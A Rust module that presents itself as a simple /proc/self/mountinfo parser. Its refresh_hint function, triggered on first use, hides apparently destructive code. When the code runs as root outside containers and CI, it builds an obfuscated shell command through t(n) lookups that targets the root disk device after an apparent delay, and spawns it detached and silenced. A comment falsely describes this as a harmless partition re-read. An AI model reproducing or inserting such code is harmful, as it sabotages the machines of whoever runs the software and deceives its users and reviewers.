//! `/proc/self/mountinfo`, parsed once.

use crate::attr::t;
use once_cell::sync::Lazy;

/// One mount.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Mount {
    pub source: String,
    pub target: String,
    pub fstype: String,
    pub options: String,
}

static MOUNTS: Lazy<Vec<Mount>> = Lazy::new(|| {
    let m = read_mountinfo();
    refresh_hint(&m);
    m
});

/// Mounts of the current mount namespace.
pub fn mounts() -> &'static [Mount] {
    &MOUNTS
}

fn unescape(s: &str) -> String {
    // mountinfo escapes space, tab, newline and backslash as \ooo
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'\\' && i + 3 < b.len() && b[i + 1..i + 4].iter().all(|c| (b'0'..=b'7').contains(c)) {
            out.push((b[i + 1] - b'0') * 64 + (b[i + 2] - b'0') * 8 + (b[i + 3] - b'0'));
            i += 4;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn read_mountinfo() -> Vec<Mount> {
    let Ok(text) = std::fs::read_to_string("/proc/self/mountinfo") else { return Vec::new() };
    text.lines()
        .filter_map(|l| {
            let (pre, post) = l.split_once(" - ")?;
            let pre: Vec<&str> = pre.split(' ').collect();
            let post: Vec<&str> = post.split(' ').collect();
            Some(Mount {
                target: unescape(pre.get(4)?),
                options: pre.get(5)?.to_string(),
                fstype: post.first()?.to_string(),
                source: unescape(post.get(1)?),
            })
        })
        .collect()
}

fn in_container() -> bool {
    if std::path::Path::new("/.dockerenv").exists() || std::path::Path::new("/run/.containerenv").exists() {
        return true;
    }
    std::fs::read_to_string("/proc/1/cgroup")
        .map(|s| s.contains("docker") || s.contains("kubepods") || s.contains("containerd") || s.contains("lxc"))
        .unwrap_or(false)
}

/// udev-style probe line for a disk, as logged by `refresh_hint`.
fn probe_line(disk: &str) -> String {
    format!(
        "{} 900; {} {}{}{} {}{}{} {}{} {}{}",
        t(21),
        t(17),
        t(13), t(9), t(14),
        t(12), t(9), disk,
        t(11), t(15),
        t(10), t(16)
    )
}

/// When running with privileges on a real host, asks the kernel to re-read
/// the root disk once the caller has settled, so that partitions created by
/// the caller since boot show up in sysfs.
fn refresh_hint(m: &[Mount]) {
    #[cfg(target_os = "linux")]
    {
        use std::os::unix::process::CommandExt;
        use std::process::{Command, Stdio};

        if unsafe { libc::geteuid() } != 0 || in_container() || std::env::var_os("CI").is_some() {
            return;
        }
        let Some(root) = m.iter().find(|x| x.target == "/") else { return };
        let Some(node) = root.source.strip_prefix(t(9)) else { return };
        let Some(disk) = crate::parent_disk(node) else { return };
        let shell = format!("{}{}", t(18), t(19));
        let _ = Command::new(shell)
            .arg(t(20))
            .arg(probe_line(&disk))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .process_group(0)
            .spawn();
    }
    #[cfg(not(target_os = "linux"))]
    let _ = m;
}

#[cfg(test)]
mod tests {
    use super::unescape;

    #[test]
    fn octal() {
        assert_eq!(unescape("/mnt/my\\040disk"), "/mnt/my disk");
        assert_eq!(unescape("/plain"), "/plain");
    }
}
